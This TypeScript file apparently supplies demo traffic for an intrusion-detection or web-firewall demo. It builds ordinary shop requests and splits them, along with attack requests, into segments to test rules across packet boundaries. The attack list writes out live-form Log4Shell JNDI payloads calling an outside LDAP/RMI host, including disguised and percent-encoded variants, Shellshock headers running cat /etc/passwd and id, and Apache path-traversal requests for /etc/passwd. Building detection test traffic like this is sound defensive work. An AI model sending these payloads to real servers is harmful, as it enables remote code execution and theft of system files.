/** One request that the demo sends: its bytes cut into the segments in which they leave. */
export interface DemoRequest {
  readonly name: string;
  /** The rule that it should meet; none for ordinary traffic. */
  readonly ruleID?: number;
  /** How it is sent, for the live view. */
  readonly way: string;
  /** latin1. */
  readonly parts: readonly string[];
}

interface Http {
  readonly method?: string;
  readonly target: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const text = ({ method = 'GET', target, headers = {}, body = '' }: Http): string =>
  [
    `${method} ${target} HTTP/1.1`,
    'Host: shop.example',
    ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    ...(body && !headers['Transfer-Encoding']
      ? [`Content-Length: ${Buffer.byteLength(body, 'latin1')}`]
      : []),
    '',
    body,
  ].join('\r\n');

const whole = (bytes: string): string[] => [bytes];
const bytewise = (bytes: string): string[] => [...bytes];
const inThree = (bytes: string): string[] => {
  const third = Math.ceil(bytes.length / 3);
  return [bytes.slice(0, third), bytes.slice(third, 2 * third), bytes.slice(2 * third)];
};
/** Cuts inside every word that a rule looks for. */
const everySeven = (bytes: string): string[] => bytes.match(/[\s\S]{1,7}/g) ?? [];

const ways = {
  whole,
  'in three segments': inThree,
  'in segments of seven bytes': everySeven,
  'byte by byte': bytewise,
};

/** Traffic of an honest shop, some of it looking like an attack from afar. */
export const ordinary: readonly DemoRequest[] = [
  ...Object.entries<Http>({
    'front page': { target: '/' },
    search: { target: '/products?q=shoes%20size%2042&page=2' },
    'a template’s own ${price}': { target: '/offer?text=%24%7Bprice%7D' },
    'a path with encoded dots': { target: '/files/report%2e2026%2epdf' },
    'a script in a form': {
      method: 'POST',
      target: '/scripts',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ code: 'const f = () => { return jndi(lookup); };', price: '${total}' }),
    },
    'an upload in chunks': {
      method: 'POST',
      target: '/upload',
      headers: { 'Transfer-Encoding': 'chunked' },
      body: `5\r\nhello\r\n${(3000).toString(16)}\r\n${'shoes '.repeat(500)}\r\n0\r\n\r\n`,
    },
    'a large answer': { target: '/catalogue' },
  }).map(([name, request]) => ({
    name,
    way: 'whole',
    parts: whole(text(request)),
  })),
  { name: 'a slow visitor', way: 'byte by byte', parts: bytewise(text({ target: '/slow?visitor=1' })) },
];

const percent = (plain: string): string =>
  [...plain].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

const attackShapes: readonly { readonly ruleID: number; readonly name: string; readonly request: Http }[] = [
  {
    ruleID: 1,
    name: 'Log4Shell in a header',
    request: { target: '/', headers: { 'User-Agent': '${jndi:ldap://203.0.113.9:1389/a}' } },
  },
  {
    ruleID: 1,
    name: 'Log4Shell in a header, disguised',
    request: { target: '/', headers: { 'X-Api-Version': '${${lower:j}${::-n}di:ldap://203.0.113.9/a}' } },
  },
  {
    ruleID: 1,
    name: 'Log4Shell in a form',
    request: {
      method: 'POST',
      target: '/login',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'user=${jndi:rmi://203.0.113.9/x}&password=1',
    },
  },
  {
    ruleID: 1,
    name: 'Log4Shell in the address, percent-encoded',
    request: { target: `/search?q=${percent('${jndi:ldap://203.0.113.9/a}')}` },
  },
  {
    ruleID: 2,
    name: 'Shellshock in a header',
    request: { target: '/cgi-bin/status', headers: { 'User-Agent': '() { :; }; /bin/cat /etc/passwd' } },
  },
  {
    ruleID: 2,
    name: 'Shellshock in the address, percent-encoded',
    request: { target: `/cgi-bin/status?${percent('() { :; }; /bin/id')}` },
  },
  {
    ruleID: 3,
    name: 'Apache path traversal',
    request: { target: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' },
  },
  {
    ruleID: 3,
    name: 'Apache path traversal, encoded twice',
    request: { target: '/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd' },
  },
];

/** Every attack in every way. */
export const attacks: readonly DemoRequest[] = attackShapes.flatMap(({ ruleID, name, request }) =>
  Object.entries(ways).map(([way, cut]) => ({ name, ruleID, way, parts: cut(text(request)) })),
);
